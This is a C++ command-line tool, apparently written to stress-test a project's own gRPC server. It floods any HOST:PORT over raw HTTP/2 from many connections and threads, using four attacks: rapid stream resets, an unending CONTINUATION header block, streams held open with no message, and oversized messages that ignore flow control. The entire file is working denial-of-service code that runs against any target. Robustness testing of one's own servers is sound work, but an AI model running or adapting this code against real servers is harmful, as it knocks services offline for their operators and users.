// A stranger that speaks plain HTTP/2 at a port, and badly:
//   launch_http2_flood HOST:PORT resets CONNECTIONS STREAMS   calls that are reset at once
//   launch_http2_flood HOST:PORT headers CONNECTIONS MB       a header block that does not end
//   launch_http2_flood HOST:PORT streams CONNECTIONS STREAMS  calls that send no message, and stay
//   launch_http2_flood HOST:PORT messages CONNECTIONS MB      messages of 16 MiB that do not end
// Prints what it could send and how many connections were closed. The last two stay for 2 s.
#include <fcntl.h>
#include <netdb.h>
#include <poll.h>
#include <sys/socket.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <functional>
#include <string>
#include <vector>

#include "base/file.h"
#include "base/thread.h"

namespace {

constexpr uint8_t kData = 0, kHeaders = 1, kReset = 3, kSettings = 4, kContinuation = 9;
constexpr uint8_t kEndHeaders = 4, kAck = 1;

std::string frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  std::string all;
  for (const int shift : {16, 8, 0}) all += static_cast<char>(payload.size() >> shift);
  all += static_cast<char>(type);
  all += static_cast<char>(flags);
  for (const int shift : {24, 16, 8, 0}) all += static_cast<char>(stream >> shift);
  return all + payload;
}

std::string word(const std::string& text) { return static_cast<char>(text.size()) + text; }

// HPACK, nothing indexed but what every table has.
std::string call_headers() {
  const std::string literal(1, '\0');
  return "\x83\x86\x04" + word("/fleet.control.v1.Rendezvous/Get") + "\x01" + word("stranger") +
         literal + word("content-type") + word("application/grpc") + literal + word("te") +
         word("trailers");
}

class Connection {
 public:
  explicit Connection(const addrinfo& where)
      : fd_(::socket(where.ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0)) {
    closed_ = ::connect(fd_.get(), where.ai_addr, where.ai_addrlen) != 0;
    ::fcntl(fd_.get(), F_SETFL, O_NONBLOCK);
    say("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(kSettings, 0, 0, "") +
        frame(kSettings, kAck, 0, ""));
  }

  bool closed() const { return closed_; }
  size_t sent() const { return sent_; }

  // All of it, unless the connection is closed or takes nothing for 3 s.
  bool say(const std::string& bytes) {
    for (size_t at = 0; at < bytes.size() && !closed_;) {
      hear();
      const ssize_t n = ::send(fd_.get(), bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL);
      if (n > 0) {
        at += static_cast<size_t>(n);
        sent_ += static_cast<size_t>(n);
        continue;
      }
      pollfd ready{fd_.get(), POLLIN | POLLOUT, 0};
      if (errno != EAGAIN) closed_ = true;
      if (::poll(&ready, 1, 3'000) <= 0) return false;
    }
    return !closed_;
  }

  void hear() {
    char bytes[16384];
    for (;;) {
      const ssize_t n = ::recv(fd_.get(), bytes, sizeof bytes, MSG_DONTWAIT);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) closed_ = true;
      if (n <= 0) return;
    }
  }

 private:
  fleet::UniqueFd fd_;
  bool closed_ = false;
  size_t sent_ = 0;
};

void resets(Connection& connection, size_t amount) {
  for (size_t i = 0; i < amount && !connection.closed();) {
    std::string many;
    for (int k = 0; k < 100 && i < amount; ++k, ++i) {
      const auto stream = static_cast<uint32_t>(2 * i + 1);
      many += frame(kHeaders, kEndHeaders, stream, call_headers());
      many += frame(kReset, 0, stream, std::string(3, '\0') + "\x08");
    }
    connection.say(many);
  }
}

void headers(Connection& connection, size_t amount) {
  // One value that would be as long as all of it: 0x00, a name, and a length of five bytes.
  connection.say(frame(kHeaders, 0, 1, std::string(1, '\0') + word("x") + "\x7f\xff\xff\xff\x7f"));
  const std::string more = frame(kContinuation, 0, 1, std::string(16'000, 'a'));
  while (connection.sent() < amount << 20 && connection.say(more)) {
  }
}

void streams(Connection& connection, size_t amount) {
  for (size_t i = 0; i < amount && !connection.closed(); ++i) {
    connection.say(frame(kHeaders, kEndHeaders, static_cast<uint32_t>(2 * i + 1), call_headers()));
  }
}

void messages(Connection& connection, size_t amount) {
  const std::string begin = std::string("\0\0\xff\xff\xff", 5);
  const std::string more(16'000, 'm');
  for (uint32_t stream = 1; connection.sent() < amount << 20; stream += 2) {
    if (!connection.say(frame(kHeaders, kEndHeaders, stream, call_headers()))) return;
    // Without heed to the window: what is beyond it is the server's to refuse.
    if (!connection.say(frame(kData, 0, stream, begin + more))) return;
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::string kind = argc == 5 ? argv[2] : "";
  const std::function<void(Connection&, size_t)> run = kind == "resets"     ? resets
                                                       : kind == "headers"  ? headers
                                                       : kind == "streams"  ? streams
                                                       : kind == "messages" ? messages
                                                                            : nullptr;
  if (!run) return std::fprintf(stderr, "see the top of http2_flood_main.cc\n"), 2;
  const std::string address = argv[1];
  const size_t colon = address.rfind(':');
  addrinfo hints{}, *where = nullptr;
  hints.ai_socktype = SOCK_STREAM;
  if (::getaddrinfo(address.substr(0, colon).c_str(), address.substr(colon + 1).c_str(), &hints,
                    &where) != 0)
    return 2;
  std::vector<std::unique_ptr<Connection>> all;
  for (int i = 0; i < std::atoi(argv[3]); ++i) all.push_back(std::make_unique<Connection>(*where));
  {
    std::vector<fleet::Thread> threads;
    for (size_t first = 0; first < 8; ++first) {
      threads.emplace_back("stranger", [&, first] {
        for (size_t i = first; i < all.size(); i += 8)
          run(*all[i], std::strtoul(argv[4], nullptr, 10));
      });
    }
  }
  if (kind == "streams" || kind == "messages") std::this_thread::sleep_for(std::chrono::seconds(2));
  size_t bytes = 0, closed = 0;
  for (const auto& connection : all) {
    connection->hear();
    bytes += connection->sent();
    closed += connection->closed();
  }
  std::printf("%s: %.1f MB were sent over %zu connections, %zu of them were closed\n", kind.c_str(),
              static_cast<double>(bytes) * 1e-6, all.size(), closed);
  ::freeaddrinfo(where);
}
